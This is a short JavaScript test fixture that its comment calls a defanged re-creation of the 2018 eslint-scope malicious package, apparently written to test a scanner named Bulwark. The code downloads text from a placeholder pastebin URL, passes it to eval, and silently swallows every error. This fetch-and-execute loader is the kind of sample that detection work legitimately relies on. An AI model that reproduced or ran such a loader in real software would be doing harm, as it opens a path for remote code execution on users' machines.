// DEFANGED re-creation (eslint-scope 3.7.2, 2018) for Bulwark's scanner tests. Never run.
try {
  var https = require('https');
  https.get({
    hostname: 'pastebin.com',
    path: '/raw/XXXXXXXX',
    headers: { 'User-Agent': 'Mozilla/5.0', Accept: 'text/html' }
  }, function (r) {
    r.setEncoding('utf8');
    r.on('data', function (c) {
      eval(c);
    });
    r.on('error', function () {});
  }).on('error', function () {});
} catch (e) {}
